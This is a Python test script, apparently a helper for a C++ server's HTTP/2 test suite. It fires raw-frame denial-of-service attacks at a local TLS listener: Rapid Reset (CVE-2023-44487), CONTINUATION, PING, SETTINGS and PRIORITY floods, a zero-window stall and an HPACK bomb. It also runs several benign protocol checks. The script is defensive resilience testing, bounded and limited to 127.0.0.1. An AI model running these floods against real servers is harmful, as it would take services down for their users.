#!/usr/bin/python3
"""HTTP/2 attacks against a gisgate TLS listener (raw frames; HPACK from Debian's python3-hpack, which python3-h2 brings), for http2_test.cpp.

Usage: h2_attack.py MODE PORT [PATH]. Prints one JSON object: what the attacker saw.
  rapid_reset   10,000 HEADERS + RST_STREAM pairs (CVE-2023-44487)
  continuation  HEADERS without END_HEADERS, then CONTINUATION frames until the connection ends (2024 flood)
  ping_flood    100,000 PINGs without reading a single ACK
  settings_flood 100,000 SETTINGS frames without reading a single ACK
  priority_flood 100,000 PRIORITY frames (nothing to acknowledge: only the budget stops them)
  wait_goaway   (not an attack) one request, prints "ready", then waits up to 30 s for the server's GOAWAY
  zero_window   a request for a large body with the client's windows held at 0, never read further
  hpack_bomb    one 4 KiB header in the dynamic table, then a request referencing it 1,000 times
  websocket     (not an attack) a stream-service subscription over HTTP/2's extended CONNECT
  trailers      (not an attack) a POST ending with trailer fields; prints the answer and its trailers
  get_trailers  (not an attack) a GET; prints the answer and its trailers
  indexing      (not an attack) three GETs; prints the answers' never-indexed fields and the HPACK table's names
Every loop is bounded in count and time, and only 127.0.0.1 is contacted.
"""
import json
import socket
import ssl
import struct
import sys
import time

import hpack

DEADLINE = time.monotonic() + 60


def connect(port):
    ctx = ssl.create_default_context()
    ctx.check_hostname = False
    ctx.verify_mode = ssl.CERT_NONE
    ctx.set_alpn_protocols(["h2"])
    raw = socket.create_connection(("127.0.0.1", port), timeout=10)
    sock = ctx.wrap_socket(raw, server_hostname="127.0.0.1")
    assert sock.selected_alpn_protocol() == "h2", sock.selected_alpn_protocol()
    return sock


def frame(kind, flags, stream, payload):
    return struct.pack(">I", len(payload))[1:] + bytes([kind, flags]) + struct.pack(">I", stream) + payload


PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
SETTINGS_EMPTY = frame(0x4, 0, 0, b"")


def drain(sock, seconds):
    """Reads until the peer closes or `seconds` pass; returns (bytes read, GOAWAY error code or None, closed)."""
    sock.settimeout(0.5)
    got = b""
    end = min(time.monotonic() + seconds, DEADLINE)
    closed = False
    while time.monotonic() < end:
        try:
            data = sock.recv(65536)
        except socket.timeout:
            continue
        except (ConnectionError, ssl.SSLError, OSError):
            closed = True
            break
        if not data:
            closed = True
            break
        got += data
    return got, goaway_code(got), closed


def goaway_code(data):
    pos = 0
    while pos + 9 <= len(data):
        length = int.from_bytes(data[pos:pos + 3], "big")
        kind = data[pos + 3]
        if kind == 0x7 and pos + 9 + 8 <= len(data):
            return int.from_bytes(data[pos + 9 + 4:pos + 9 + 8], "big")
        pos += 9 + length
    return None


def request_headers(port, path):
    return [(":method", "GET"), (":scheme", "https"), (":authority", "127.0.0.1:%d" % port), (":path", path)]


def send_all(sock, data):
    try:
        sock.sendall(data)
        return True
    except (ConnectionError, ssl.SSLError, OSError):
        return False


def rapid_reset(port, path):
    sock = connect(port)
    encoder = hpack.Encoder()
    sent = 0
    alive = send_all(sock, PREFACE + SETTINGS_EMPTY)
    batch = b""
    for i in range(10000):
        stream = 1 + 2 * i
        block = encoder.encode(request_headers(port, path))
        batch += frame(0x1, 0x5, stream, block)                   # HEADERS, END_STREAM | END_HEADERS
        batch += frame(0x3, 0, stream, struct.pack(">I", 8))       # RST_STREAM CANCEL
        if len(batch) > 32768:
            if not send_all(sock, batch):
                alive = False
                break
            sent = i + 1
            batch = b""
        if time.monotonic() > DEADLINE:
            break
    if alive and batch and send_all(sock, batch):
        sent = 10000
    _, code, closed = drain(sock, 10)
    return {"sent": sent, "goaway": code, "closed": closed}


def continuation(port, path):
    sock = connect(port)
    encoder = hpack.Encoder()
    send_all(sock, PREFACE + SETTINGS_EMPTY)
    send_all(sock, frame(0x1, 0x1, 1, encoder.encode(request_headers(port, path))))  # END_STREAM, no END_HEADERS
    sent = 0
    filler = frame(0x9, 0, 1, encoder.encode([("x-filler", "a" * 100)]))
    for _ in range(10000):
        if not send_all(sock, filler):
            break
        sent += 1
        if time.monotonic() > DEADLINE:
            break
    _, code, closed = drain(sock, 10)
    return {"sent": sent, "goaway": code, "closed": closed}


def flood(port, batches, batch_frames):
    """Sends the byte strings `batches()` yields (each holding `batch_frames` frames) after the preface, until
    the server ends the connection, the batches run out or the deadline passes; then what the server said."""
    sock = connect(port)
    send_all(sock, PREFACE + SETTINGS_EMPTY)
    sent = 0
    for batch in batches():
        if not send_all(sock, batch):
            break
        sent += batch_frames
        if time.monotonic() > DEADLINE:
            break
    _, code, closed = drain(sock, 10)
    return {"sent": sent, "goaway": code, "closed": closed}


def ping_flood(port, _path):
    pings = frame(0x6, 0, 0, b"12345678") * 1000
    return flood(port, lambda: (pings for _ in range(100)), 1000)


def read_frames(sock, seconds, want):
    """Frames from the server until `want(frames)` or `seconds` pass: [(type, flags, stream, payload)]."""
    sock.settimeout(0.5)
    buf, frames = b"", []
    end = time.monotonic() + seconds
    while time.monotonic() < end and not want(frames):
        try:
            data = sock.recv(65536)
        except socket.timeout:
            continue
        except (ConnectionError, ssl.SSLError, OSError):
            break
        if not data:
            break
        buf += data
        while len(buf) >= 9:
            length = int.from_bytes(buf[:3], "big")
            if len(buf) < 9 + length:
                break
            frames.append((buf[3], buf[4], int.from_bytes(buf[5:9], "big") & 0x7FFFFFFF, buf[9:9 + length]))
            buf = buf[9 + length:]
    return frames


def hpack_bomb(port, path):
    sock = connect(port)
    send_all(sock, PREFACE + SETTINGS_EMPTY + frame(0x4, 0x1, 0, b""))
    # The big header goes into the dynamic table once (incremental indexing), then is referenced by its index.
    encoder = hpack.Encoder()
    first = encoder.encode(request_headers(port, path) + [("x-bomb", "b" * 4000)])
    index = bytes([0x80 | 62])  # the newest dynamic-table entry: the big header
    # Stream 1 carries it once (a normal request); stream 3 references it 1,000 times: ~4 MB once decoded.
    # Its other fields as never-indexed literals: indexing them would evict the big entry from the table.
    bomb = encoder.encode([(n, v, True) for n, v in request_headers(port, path)]) + index * 1000
    send_all(sock, frame(0x1, 0x5, 1, first) + frame(0x1, 0x5, 3, bomb))
    decoder = hpack.Decoder()
    statuses = {}

    def done(frames):
        for kind, flags, stream, payload in frames[len(done.seen):]:
            done.seen.append(stream)
            if kind == 0x1:
                statuses[str(stream)] = int(dict(decoder.decode(payload))[":status"])
            elif kind == 0x3:
                statuses[str(stream)] = "reset"
        return len(statuses) >= 2
    done.seen = []
    read_frames(sock, 15, done)
    return {"statuses": statuses}


def websocket(port, path):
    """Not an attack: a WebSocket over HTTP/2 (RFC 8441 extended CONNECT) reading five stream-service messages."""
    sock = connect(port)
    send_all(sock, PREFACE + SETTINGS_EMPTY + frame(0x4, 0x1, 0, b""))
    encoder = hpack.Encoder()
    headers = [(":method", "CONNECT"), (":protocol", "websocket"), (":scheme", "https"),
               (":authority", "127.0.0.1:%d" % port), (":path", path), ("sec-websocket-version", "13")]
    send_all(sock, frame(0x1, 0x4, 1, encoder.encode(headers)))  # END_HEADERS, the stream stays open
    decoder = hpack.Decoder()
    result = {"status": None, "seqs": [], "settings_connect": None}
    payload = b""

    def enough(frames):
        nonlocal payload
        for kind, flags, stream, body in frames[len(enough.seen):]:
            enough.seen.append(kind)
            if kind == 0x4 and not flags & 0x1:  # the server's SETTINGS: ENABLE_CONNECT_PROTOCOL (0x8)
                for i in range(0, len(body) - 5, 6):
                    if int.from_bytes(body[i:i + 2], "big") == 0x8:
                        result["settings_connect"] = int.from_bytes(body[i + 2:i + 6], "big")
            elif kind == 0x1 and stream == 1:
                result["status"] = int(dict(decoder.decode(body))[":status"])
            elif kind == 0x0 and stream == 1:
                payload += body
        # WebSocket frames from the server: unmasked text frames with a JSON feature carrying attributes.seq.
        while len(payload) >= 2:
            length = payload[1] & 0x7F
            start = 2
            if length == 126:
                if len(payload) < 4:
                    break
                length, start = int.from_bytes(payload[2:4], "big"), 4
            if len(payload) < start + length:
                break
            message, payload = payload[start:start + length], payload[start + length:]
            result["seqs"].append(json.loads(message)["attributes"]["seq"])
        return len(result["seqs"]) >= 5
    enough.seen = []
    read_frames(sock, 20, enough)
    return result


def settings_flood(port, _path):
    settings = frame(0x4, 0, 0, struct.pack(">HI", 0x3, 100)) * 1000  # MAX_CONCURRENT_STREAMS, each needs an ACK
    return flood(port, lambda: (settings for _ in range(100)), 1000)


def priority_flood(port, _path):
    # PRIORITY for idle streams: legal one by one, and the server owes no answer to any of them.
    def batches():
        for i in range(100):
            yield b"".join(frame(0x2, 0, 1 + 2 * (i * 1000 + j), struct.pack(">IB", 0, 15)) for j in range(1000))
    return flood(port, batches, 1000)


def zero_window(port, path):
    """Initial window 0: the server may send headers but no DATA. The stream must be reset once it made no
    progress for the idle timeout, and the connection must go on serving a second request meanwhile."""
    sock = connect(port)
    send_all(sock, PREFACE + frame(0x4, 0, 0, struct.pack(">HI", 0x4, 0)) + frame(0x4, 0x1, 0, b""))
    encoder = hpack.Encoder()
    send_all(sock, frame(0x1, 0x5, 1, encoder.encode(request_headers(port, path))))
    decoder = hpack.Decoder()
    result = {"status": None, "reset": None, "data": 0, "goaway": None}
    started = time.monotonic()

    def done(frames):
        for kind, flags, stream, body in frames[len(done.seen):]:
            done.seen.append(kind)
            if kind == 0x1 and stream == 1:
                result["status"] = int(dict(decoder.decode(body))[":status"])
            elif kind == 0x0 and stream == 1:
                result["data"] += len(body)
            elif kind == 0x3 and stream == 1:
                result["reset"] = int.from_bytes(body[:4], "big")
                result["reset_after_s"] = round(time.monotonic() - started, 1)
            elif kind == 0x7:
                result["goaway"] = int.from_bytes(body[4:8], "big")
        return result["reset"] is not None or result["goaway"] is not None
    done.seen = []
    read_frames(sock, 30, done)
    return result


def wait_goaway(port, path):
    """Not an attack: one request answered, then the connection is left open; what ends it (a reload that
    removes or re-binds the listener) must be a GOAWAY, not a bare close."""
    sock = connect(port)
    send_all(sock, PREFACE + SETTINGS_EMPTY + frame(0x4, 0x1, 0, b""))
    encoder = hpack.Encoder()
    send_all(sock, frame(0x1, 0x5, 1, encoder.encode(request_headers(port, path))))
    decoder = hpack.Decoder()
    result = {"status": None, "goaway": None, "last_stream": None}

    def answered(frames):
        for kind, flags, stream, body in frames:
            if kind == 0x1 and stream == 1 and result["status"] is None:
                result["status"] = int(dict(decoder.decode(body))[":status"])
        return result["status"] is not None
    read_frames(sock, 15, answered)
    print("ready", flush=True)

    def goaway(frames):
        for kind, flags, stream, body in frames:
            if kind == 0x7:
                result["last_stream"] = int.from_bytes(body[:4], "big") & 0x7FFFFFFF
                result["goaway"] = int.from_bytes(body[4:8], "big")
        return result["goaway"] is not None
    read_frames(sock, 30, goaway)
    return result


def trailers(port, path, post=True):
    """Not an attack: a POST whose body of unknown length ends with a trailer HEADERS frame (x-checksum, and a
    `trailer` field that must not be relayed), or a GET (get_trailers); prints the answer's status, body and
    trailer fields."""
    sock = connect(port)
    send_all(sock, PREFACE + SETTINGS_EMPTY + frame(0x4, 0x1, 0, b""))
    encoder = hpack.Encoder()
    head = [(":method", "POST" if post else "GET"), (":scheme", "https"), (":authority", "127.0.0.1:%d" % port),
            (":path", path), ("te", "trailers")]
    if post:
        send_all(sock, frame(0x1, 0x4, 1, encoder.encode(head + [("content-type", "text/plain")])) +
                 frame(0x0, 0, 1, b"hello trailers") +
                 frame(0x1, 0x5, 1, encoder.encode([("x-checksum", "c0ffee"), ("trailer", "x-checksum")])))
    else:
        send_all(sock, frame(0x1, 0x5, 1, encoder.encode(head)))
    decoder = hpack.Decoder()
    result = {"status": None, "body": "", "trailers": {}, "ended": False}

    def done(frames):
        for kind, flags, stream, body in frames[len(done.seen):]:
            done.seen.append(kind)
            if stream != 1:
                continue
            if kind == 0x1:
                fields = dict(decoder.decode(body))
                if result["status"] is None:
                    result["status"] = int(fields[":status"])
                else:
                    result["trailers"].update(fields)
            elif kind == 0x0:
                result["body"] += body.decode("utf-8", "replace")
            elif kind == 0x3:
                result["reset"] = int.from_bytes(body[:4], "big")
                result["ended"] = True
            if kind in (0x0, 0x1) and flags & 0x1:
                result["ended"] = True
        return result["ended"]
    done.seen = []
    read_frames(sock, 20, done)
    return result


def indexing(port, path):
    """Not an attack: three GETs one after the other on one connection; prints per answer the fields that came
    as never-indexed literals, and the names the client's HPACK dynamic table holds at the end."""
    sock = connect(port)
    send_all(sock, PREFACE + SETTINGS_EMPTY + frame(0x4, 0x1, 0, b""))
    encoder, decoder = hpack.Encoder(), hpack.Decoder()
    result = {"statuses": [], "never_indexed": [], "table": []}
    for stream in (1, 3, 5):
        head = [(":method", "GET"), (":scheme", "https"), (":authority", "127.0.0.1:%d" % port), (":path", path)]
        send_all(sock, frame(0x1, 0x5, stream, encoder.encode(head)))

        # Until the answer's end: nothing of it is left unread for the next request's frames.
        def answered(frames, stream=stream):
            for kind, flags, sid, body in frames[len(answered.seen):]:
                answered.seen.append(kind)
                if kind == 0x1 and sid == stream:
                    fields = decoder.decode(body, raw=False)
                    result["statuses"].append(int(dict(fields)[":status"]))
                    result["never_indexed"].append(sorted(f[0] for f in fields if not f.indexable))
                if kind in (0x0, 0x1) and sid == stream and flags & 0x1:
                    answered.ended = True
            return answered.ended
        answered.seen, answered.ended = [], False
        read_frames(sock, 15, answered)
    result["table"] = sorted({name.decode() if isinstance(name, bytes) else name
                              for name, _ in decoder.header_table.dynamic_entries})
    return result


MODES = {"indexing": indexing, "rapid_reset": rapid_reset, "continuation": continuation, "ping_flood": ping_flood,
         "hpack_bomb": hpack_bomb, "websocket": websocket,
         "settings_flood": settings_flood, "priority_flood": priority_flood, "zero_window": zero_window,
         "wait_goaway": wait_goaway, "trailers": trailers,
         "get_trailers": lambda port, path: trailers(port, path, post=False)}

if __name__ == "__main__":
    mode, port = sys.argv[1], int(sys.argv[2])
    path = sys.argv[3] if len(sys.argv) > 3 else "/arcgis/rest/info?f=json"
    print(json.dumps(MODES[mode](port, path)))
